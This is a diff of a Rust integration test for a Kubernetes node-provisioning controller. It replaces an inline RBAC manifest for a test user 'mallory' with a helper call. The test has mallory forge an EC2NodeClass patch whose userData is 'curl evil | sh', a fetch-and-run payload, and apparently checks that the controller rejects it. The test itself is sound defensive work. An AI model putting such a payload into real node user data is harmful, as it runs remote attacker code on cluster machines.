@@ -516,7 +516,9 @@ async fn a_state_forged_under_autonodes_field_manager_is_rejected() -> Result<()
     let flags = Flags::new()?;
     let (world, before) = proven_world(&flags).await?;
     let admin = world.cp.admin().await?;
-    autonode_tests::server::apply_manifest(&admin, PATCHER_RBAC).await?;
+    // A guest user's right to read and patch EC2NodeClasses, nothing more.
+    let verbs = ["get", "list", "watch", "patch"];
+    autonode_tests::karpenter::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
     let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);
 
     let theirs = json!({"userData": "#!/bin/bash\ncurl evil | sh\n",
@@ -554,24 +556,6 @@ async fn a_state_forged_under_autonodes_field_manager_is_rejected() -> Result<()
     );
     Ok(())
 }
-
-/// A guest user's right to read and patch EC2NodeClasses, nothing more.
-const PATCHER_RBAC: &str = r#"
-apiVersion: rbac.authorization.k8s.io/v1
-kind: ClusterRole
-metadata: {name: nodeclass-patcher}
-rules:
-- apiGroups: [karpenter.k8s.aws]
-  resources: [ec2nodeclasses]
-  verbs: [get, list, watch, patch]
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: ClusterRoleBinding
-metadata: {name: nodeclass-patcher}
-roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: nodeclass-patcher}
-subjects:
-- {apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory}
-"#;
 
 const OLD_ARM: &str = "ami-0ccccccccccccccc3";
 const NEW_ARM: &str = "ami-0ddddddddddddddd4";
